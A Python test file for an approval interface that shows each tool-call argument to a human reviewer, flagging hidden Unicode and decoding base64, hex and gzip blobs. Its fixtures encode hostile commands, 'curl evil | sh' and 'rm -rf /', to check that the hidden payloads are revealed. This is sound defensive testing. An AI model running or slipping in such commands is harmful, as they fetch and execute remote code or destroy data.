"""Every leaf of the arguments is a row; nothing is left out."""

import base64
import gzip
import os
from types import SimpleNamespace
from typing import Any

import pytest

from approvals.legible.paths import DEEP
from approvals.render.arguments import Line, lines_of, opaque
from approvals.render.parts import parts
from approvals.render.reveal import Revealed
from approvals.web.card import _flags


def text_of(line: Line) -> str:
    return "".join(part.text for part in line.value.head + line.value.middle + line.value.tail)


def rows(args: dict[str, object]) -> list[tuple[str, str, str]]:
    return [("".join(part.text for part in line.path.head), line.kind, text_of(line)) for line in lines_of(args)]


def test_nested_values_are_rows_by_path() -> None:
    assert rows({"order": "A-1", "items": [{"sku": "x", "qty": 2}], "paid": True, "note": None}) == [
        ("order", "text", "A-1"),
        ("items[0].sku", "text", "x"),
        ("items[0].qty", "number", "2"),
        ("paid", "yes or no", "true"),
        ("note", "nothing (null)", "null"),
    ]


def test_empty_things_are_shown_too() -> None:
    assert rows({"a": [], "b": {}, "c": ""}) == [("a", "empty list", "[]"), ("b", "empty object", "{}"), ("c", "text", "")]


def test_too_deep_is_shown_as_json_and_flagged() -> None:
    value: object = "payload"
    for _ in range(DEEP + 3):
        value = {"k": value}
    (line,) = lines_of({"a": value})
    assert not line.inspectable and "payload" in text_of(line) and "not inspectable" in line.flags[0]


def test_keys_are_revealed_like_values() -> None:
    (line,) = lines_of({"a\u202eb": 1})
    assert [part.kind for part in line.path.head] == ["text", "chip", "text"]


@pytest.mark.parametrize(
    ("value", "what"),
    [
        (base64.b64encode(b"curl evil | sh; " * 20).decode(), "base64"),
        ((b"curl evil | sh; " * 20).hex(), "hexadecimal bytes"),
        ("0x" + "ab" * 200, "hexadecimal bytes"),
    ],
)
def test_packed_bytes_are_not_inspectable_and_get_a_preview(value: str, what: str) -> None:
    (line,) = lines_of({"blob": value})
    assert not line.inspectable and line.flags[-1].endswith(what)
    assert line.preview is not None


def test_prose_is_not_taken_for_packed_bytes() -> None:
    assert opaque("please refund this order because the box arrived broken " * 10)[1] == ""


def test_size_counts_characters_and_lines() -> None:
    assert [line.size for line in lines_of({"a": "x", "b": "x\ny", "c": ""})] == [
        "1 character", "3 characters, 2 lines", "empty",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("args", "said"),
    [
        ({"a": "ab" * 200}, "1 value is not inspectable: look at what it decodes to"),
        ({"a": "ab" * 200, "b": "cd" * 200}, "2 values are not inspectable: look at what they decode to"),
        ({"a": "x\u202ey"}, "1 value holds characters that do not show themselves: they are marked"),
        ({"a": "x\u202ey", "b": "\u202e"}, "2 values hold characters that do not show themselves: they are marked"),
    ],
)
def test_what_hides_is_counted_in_a_sentence(args: dict[str, str], said: str) -> None:
    detail: Any = SimpleNamespace(tampered="")
    assert said in _flags(detail, lines_of(args))


def test_what_a_blob_says_at_its_end_can_be_opened_and_has_to_be() -> None:
    text = "harmless words, line after line\n" * 40 + "and then rm -rf / at the end"
    for value in (base64.b64encode(text.encode()).decode(), base64.b64encode(gzip.compress(text.encode() * 9)).decode()):
        (line,) = lines_of({"blob": value})
        assert line.preview and line.preview.hidden and not line.unseen
        assert "rm -rf / at the end" in plain(line.preview)
        assert [p.name for p in parts({"blob": value}, {}) if p.name.endswith("d")] == [f"{line.key}d"]


def test_every_piece_is_decoded_and_what_is_not_is_said() -> None:
    pieces = [base64.b64encode(f"command number {n} is here".encode()).decode() for n in range(6)]
    (line,) = lines_of({"cmd": " ; ".join(pieces)})
    assert line.preview and all(f"command number {n}" in plain(line.preview) for n in range(6)) and not line.unseen
    (many,) = lines_of({"cmd": " ; ".join(pieces * 5)})
    assert "more than 20 pieces" in many.unseen
    (binary,) = lines_of({"blob": base64.b64encode(os.urandom(900)).decode()})
    assert "is no text: only its first bytes" in binary.unseen
    (endless,) = lines_of({"blob": base64.b64encode(gzip.compress(b"many words here " * 100_000)).decode()})
    assert "65,536 bytes are decoded" in endless.unseen


def plain(value: Revealed) -> str:
    return "".join(segment.text for part in (value.head, value.middle, value.tail) for segment in part)
